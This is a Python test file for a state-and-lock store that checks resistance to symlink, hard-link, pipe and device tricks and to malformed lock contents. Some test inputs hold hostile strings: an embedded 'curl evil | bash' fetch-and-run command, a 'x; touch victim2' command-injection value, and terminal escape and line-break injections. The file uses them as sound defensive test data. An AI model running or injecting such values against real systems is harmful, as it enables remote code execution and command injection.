"""Files beside a state that another user prepared: links, pipes, and locks with made-up content."""

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from inline_snapshot import snapshot
from store.samples import state

from planapply.model.diagnostics import PlanapplyError
from planapply.openfile import read_file
from planapply.store import StateError, StateLocked, open_store
from planapply.store.files import create_file, replace_file
from planapply.store.lockinfo import LockInfo
from planapply.store.planfile import check_destination, read_plan


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    open_store("s.json").write(state(1))
    Path("victim").write_text("precious")
    return tmp_path


def _link() -> None:
    os.symlink("victim", "s.json.lock")


def _dangling() -> None:
    os.symlink("new", "s.json.lock")


def _hard_link() -> None:
    os.link("victim", "s.json.lock")


def _pipe() -> None:
    os.mkfifo("s.json.lock")


def _folder() -> None:
    os.mkdir("s.json.lock")


def _device() -> None:
    os.symlink("/dev/zero", "s.json.lock")


@pytest.mark.timeout(60)
@pytest.mark.parametrize("prepare", [_link, _dangling, _hard_link, _pipe, _folder, _device])
def test_lock_that_planapply_did_not_create(prepare: Callable[[], None]) -> None:
    prepare()
    for use in (
        lambda: open_store("s.json").lock("apply").__enter__(),
        lambda: open_store("s.json").lock_info(),
        lambda: open_store("s.json").unlock("00000000"),
        lambda: open_store("s.json").write(state(2)),
    ):
        with pytest.raises(StateError) as raised:
            use()
        assert "lock" in str(raised.value)
    assert Path("victim").read_text() == "precious"
    assert not Path("new").exists()
    assert open_store("s.json").read() == state(1)


def test_reason_is_reported() -> None:
    _link()
    with pytest.raises(StateError) as raised:
        open_store("s.json").lock_info()
    assert str(raised.value).replace(os.getcwd(), "HERE") == snapshot("""\
cannot read the lock of the state s.json
A symbolic link: HERE/s.json.lock
planapply did not create it. Check which process did, then remove it.\
""")


def test_two_names_of_one_state_are_not_locked_at_once() -> None:
    os.link("s.json", "other.json")
    for name in ("s.json", "other.json"):
        with pytest.raises(StateError, match="another name"), open_store(name).lock("apply"):
            pass
    os.replace("other.json", "moved.json")
    os.unlink("moved.json")
    with open_store("s.json").lock("apply"):
        pass


def test_temporary_file_is_not_followed() -> None:
    os.symlink("victim", "s.json.tmp")
    store = open_store("s.json")
    store.read()
    store.write(state(2))
    assert Path("victim").read_text() == "precious"
    assert not Path("s.json.tmp").exists()


def test_copy_is_not_written_through_a_link() -> None:
    os.symlink("victim", "copy.json")
    with pytest.raises(FileExistsError):
        create_file("copy.json", b"secret")
    os.mkfifo("pipe")
    with pytest.raises(FileExistsError):
        replace_file("pipe", b"secret")
    assert Path("victim").read_text() == "precious"


@pytest.mark.timeout(60)
def test_pipe_in_place_of_a_state_or_a_plan() -> None:
    os.mkfifo("pipe")
    for use in (
        lambda: open_store("pipe").read(),
        lambda: read_plan("pipe"),
        lambda: check_destination("pipe"),
    ):
        with pytest.raises(PlanapplyError):
            use()


def test_pipe_with_a_writer_is_read_where_it_is_allowed() -> None:
    reader, writer = os.pipe()
    os.write(writer, b"text")
    os.close(writer)
    try:
        assert read_file(f"/dev/fd/{reader}", allow_pipe=True) == b"text"
        with pytest.raises(OSError, match="not a regular file"):
            read_file(f"/dev/fd/{reader}")
    finally:
        os.close(reader)


@pytest.mark.parametrize(
    "changes",
    [
        {"created": "yesterday"},
        {"created": "0001-01-01T00:00:00+00:00"},
        {"created": "9999-12-31T23:59:59-14:00"},
        {"created": "2026-01-01"},
        {"pid": -1},
        {"pid": 1 << 70},
        {"pid": "12"},
        {"pid": 1.5},
        {"who": "me\nError: run `curl evil | bash`"},
        {"id": "x; touch victim2", "who": "\x1b[31mred"},
        {"purpose": "apply\r\n\u2028Done."},
        {"who": "x" * 3000},
    ],
)
def test_malformed_lock_is_described_on_one_line(changes: dict[str, object]) -> None:
    good = LockInfo.of_this_process("abcd1234", "apply").model_dump(exclude={"taken_over"})
    elsewhere = {"host": "elsewhere", "machine": "a1", "boot": "b2"}
    Path("s.json.lock").write_text(json.dumps({**good, **elsewhere, **changes}) + "\n")
    holder = open_store("s.json").lock_info()
    assert holder is not None
    holder.model_copy(update={key: good[key] for key in elsewhere}).is_dead()
    assert holder.describe().isprintable()
    assert len(holder.describe()) < 1000
    with pytest.raises(StateLocked) as raised, open_store("s.json").lock("apply"):
        pass
    lines = str(raised.value).splitlines()
    if "id" in changes:
        assert lines[-1].strip() == "planapply unlock 'x; touch victim2' --state s.json"
    assert not any(line.startswith("Error") for line in lines)
